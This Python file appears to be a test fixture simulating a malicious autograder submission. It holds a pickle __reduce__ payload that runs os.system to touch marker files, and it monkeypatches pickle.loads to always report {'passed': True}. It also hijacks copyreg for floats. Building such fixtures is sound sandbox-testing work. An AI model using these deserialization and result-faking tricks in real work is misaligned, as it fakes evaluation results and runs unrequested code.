"""Patches pickle and copyreg, and returns objects whose reduction runs code, in case somebody unpickles."""

# expect: scale=failed total=passed score=2
# says: Payload
import copyreg
import os
import pickle

import tensorflow as tf


class Payload:
    def __reduce__(self):
        return os.system, ("touch /course/owned; touch /tmp/owned",)

    def __reduce_ex__(self, _):
        return self.__reduce__()


pickle.dumps = pickle.dump = lambda *_, **__: b"cos\nsystem\n(S'touch /course/owned'\ntR."
pickle.loads = pickle.load = lambda *_, **__: {"passed": True}
copyreg.dispatch_table[float] = lambda value: (os.system, ("touch /course/owned",))


def scale(x, factor):
    return Payload()


def total(x):
    return tf.reduce_sum(2 * x), int(x.shape[0] * x.shape[1])
